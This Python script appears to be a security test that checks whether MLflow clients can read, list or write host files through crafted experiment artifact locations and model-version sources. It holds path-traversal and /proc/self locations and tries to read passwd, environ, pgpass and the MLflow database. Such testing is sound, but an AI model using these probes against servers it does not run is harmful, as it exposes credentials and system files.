#!/usr/bin/env python3
# Copyright (c) 2026 the authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Does a client of MLflow get at files of its host, when it says that its artifacts are there?

Run as root on that host: artifact_locations.py TRACKING_URI. Ends with a line for each file that it got at.
"""

from __future__ import annotations

import contextlib
import json
import shutil
import sys
import time
from pathlib import Path
from urllib.error import HTTPError
from urllib.parse import urlencode, urlsplit
from urllib.request import Request, urlopen

PLACES = (
    "file:///etc",
    "file://localhost/etc",
    "/etc",
    "file:///var/lib/mlflow",
    "file:///var/lib/mlflow/artifacts/../../../../etc",
    "file:///proc/self",
    "file:///proc/self/root/etc",
    "file:///run/mlflow",
    "file:///run/credentials/mlflow.service",
    "file:///opt/mlflow/current",
)


class Server:
    """MLflow as plain HTTP."""

    def __init__(self, uri):
        self.uri = uri

    def call(self, route, query=(), data=None):
        """Return status and body."""
        request = Request(
            f"{self.uri}/{route}?{urlencode(query)}", data=data, headers={"Content-Type": "application/json"}
        )
        try:
            with urlopen(request, timeout=30) as answer:
                return answer.status, answer.read()
        except HTTPError as error:
            return error.code, error.read()

    def make(self, what, **fields):
        """Create something; return what MLflow says about it, or nothing if it refuses."""
        status, body = self.call(f"api/2.0/mlflow/{what}/create", data=json.dumps(fields).encode())
        return json.loads(body) if status == 200 else {}

    def works(self, route, **query):
        """Return whether a file was given out."""
        return self.call(route, query)[0] == 200


def of_run(server, experiment):
    """Yield what a client can do in the folder of a new run."""
    run = server.make("runs", experiment_id=experiment)["run"]["info"]
    if (
        server.call("ajax-api/2.0/mlflow/upload-artifact", {"run_uuid": run["run_id"], "path": "file"}, b"written")[0]
        == 200
    ):
        yield "write to"
    with host_has_a_file(urlsplit(run["artifact_uri"])):
        status, body = server.call("api/2.0/mlflow/artifacts/list", {"run_id": run["run_id"]})
        if status == 200 and json.loads(body).get("files"):
            yield "list"
        if server.works("get-artifact", run_uuid=run["run_id"], path="file"):
            yield "read"


@contextlib.contextmanager
def host_has_a_file(uri):
    """Have a file of the host's where a run's artifacts would be, if they are on a disk."""
    folder = Path(uri.path)
    with contextlib.suppress(OSError):  # /proc and credentials take none
        if uri.scheme != "mlflow-artifacts":
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "file").touch()
    yield
    shutil.rmtree(folder.parent, ignore_errors=True)


def of_model(server, name, place):
    """Yield what a client can do with a version of a model that has a source in that place."""
    server.make("registered-models", name=name)
    version = server.make("model-versions", name=name, source=place).get("model_version", {})
    for file in ("passwd", "environ", "pgpass", "mlflow.db", "release.json"):
        if version and server.works("model-versions/get-artifact", name=name, version=version["version"], path=file):
            yield f"read {file} of"


def main():
    """Try an ordinary experiment first, where all of that works."""
    server, now = Server(sys.argv[1]), time.time_ns()
    ordinary = list(of_run(server, server.make("experiments", name=f"ordinary {now}")["experiment_id"]))
    if ordinary != ["write to", "list", "read"]:
        sys.exit(
            f"All that a client can do with an ordinary experiment is to {', '.join(ordinary)} it: this proves nothing"
        )
    found = []
    for place in PLACES:
        made = server.make("experiments", name=f"{place} {now}", artifact_location=place)
        found += [f"A client can {what} {place}" for what in (of_run(server, made["experiment_id"]) if made else ())]
        found += [f"A client can {what} {place}" for what in of_model(server, f"{now} {PLACES.index(place)}", place)]
    sys.exit("\n".join(found) or 0)


if __name__ == "__main__":
    main()
